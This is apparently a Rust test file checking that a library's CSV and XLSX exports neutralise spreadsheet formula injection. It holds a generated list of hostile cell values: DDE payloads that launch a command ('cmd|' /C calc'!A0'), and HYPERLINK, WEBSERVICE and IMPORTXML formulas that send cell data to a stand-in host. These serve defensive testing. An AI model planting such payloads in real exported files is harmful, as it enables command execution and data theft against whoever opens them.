//! No exported cell can start a formula (reliability T17).
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use documents::write::{Column, Delimiter, csv_delimited, xlsx};

/// Heads of formulas and commands, with each of the tails below: 54 payloads.
const HEADS: [&str; 9] = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\0="];
const TAILS: [&str; 6] = [
    "HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")",
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "WEBSERVICE(\"http://example.invalid\")",
    "IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
    "1+1",
];

fn payloads() -> Vec<[String; 2]> {
    let every = HEADS
        .iter()
        .flat_map(|head| TAILS.iter().map(move |tail| format!("{head}{tail}")));
    every.map(|payload| [payload, "aman".to_owned()]).collect()
}

#[test]
fn csv_cells_never_start_with_a_trigger() {
    let rows = payloads();
    assert!(rows.len() >= 50);
    for (delimiter, sign) in [(Delimiter::Comma, b','), (Delimiter::Semicolon, b';')] {
        // Also in a column of numbers, and also in the header.
        let columns = [Column::number("=1+1"), Column::text("@x")];
        let bytes = csv_delimited(delimiter, &columns, &rows);
        let text = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("the mark of UTF-8");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .delimiter(sign)
            .from_reader(text);
        let mut cells = 0;
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', ' ']),
                    "{cell:?}"
                );
                cells += 1;
            }
        }
        assert_eq!(cells, 2 * (rows.len() + 1));
    }
}

#[test]
fn xlsx_holds_texts_and_no_formula() {
    let rows = payloads();
    let columns = [Column::number("=1+1"), Column::text("@x")];
    let bytes = xlsx("=cmd|x", &columns, &rows).unwrap();
    let mut book = Xlsx::new(Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    assert!(book.worksheet_formula(&name).unwrap().is_empty());
    let range = book.worksheet_range(&name).unwrap();
    assert_eq!(range.height(), rows.len() + 1);
    for (row, expected) in range.rows().skip(1).zip(&rows) {
        assert_eq!(row[0], Data::String(expected[0].clone()));
    }
}

#[test]
fn only_plain_numbers_are_numbers() {
    let columns = [Column::number("nilai"), Column::text("nip")];
    let bytes = xlsx(
        "t",
        &columns,
        &[["-12.5", "196608011988031001"], ["-1+1", "-12.5"]],
    )
    .unwrap();
    let mut book = Xlsx::new(Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("t").unwrap();
    let cell = |row: u32, column: u32| range.get_value((row, column)).cloned().unwrap();
    assert_eq!(cell(1, 0), Data::Float(-12.5));
    assert_eq!(cell(1, 1), Data::String("196608011988031001".to_owned()));
    assert_eq!(cell(2, 0), Data::String("-1+1".to_owned()));
    assert_eq!(cell(2, 1), Data::String("-12.5".to_owned()));
}
